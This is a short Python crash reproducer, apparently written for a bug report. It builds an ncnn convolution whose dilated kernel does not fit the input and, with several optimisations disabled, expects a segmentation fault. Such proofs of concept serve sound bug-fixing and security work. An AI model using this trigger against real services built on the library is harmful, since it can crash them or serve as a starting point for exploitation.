"""ncnn from PyPI, with packing, Winograd and sgemm switched off: a dilation that the kernel does not fit under
crashes.
Run: python3 dilation-plain.py
Proof: SIGSEGV"""

import tempfile

import ncnn
import numpy as np

net = ncnn.Net()
for name in ("use_packing_layout", "use_winograd_convolution", "use_sgemm_convolution"):
    setattr(net.opt, name, False)
net.load_param_mem("7767517\n2 2\nInput input 0 1 data\n"
                   "Convolution conv 1 1 data out 0=6 1=3 11=3 2=3 12=3 3=1 13=1 5=0 6=216\n")
with tempfile.NamedTemporaryFile(suffix=".bin") as f:
    f.write(b"\0\0\0\0" + np.ones(216, np.float32).tobytes())
    f.flush()
    net.load_model(f.name)
extractor = net.create_extractor()
extractor.input("data", ncnn.Mat(np.ones((4, 7, 8), np.float32)).clone())
print(np.array(extractor.extract("out")[1]).shape)
print("not reproduced")
